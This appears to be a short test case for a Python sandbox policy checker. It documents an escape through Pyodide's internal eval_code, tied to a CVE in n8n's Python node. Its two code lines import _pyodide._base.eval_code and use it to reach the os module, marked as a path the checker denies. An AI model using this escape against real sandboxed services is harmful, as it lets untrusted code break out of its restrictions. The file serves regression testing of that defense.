# aim: evaluate code by the evaluator under the interpreter in a browser
# mechanism: _pyodide._base.eval_code, which the rules of the node did not know
# source: CVE-2025-68668 (n8n's Python node)
# language: check
# reason: the policy does not authorize _pyodide._base
# jail: process
# plain: none (there is no Pyodide outside of a browser)
from _pyodide._base import eval_code
loot(eval_code("__import__('os')"))
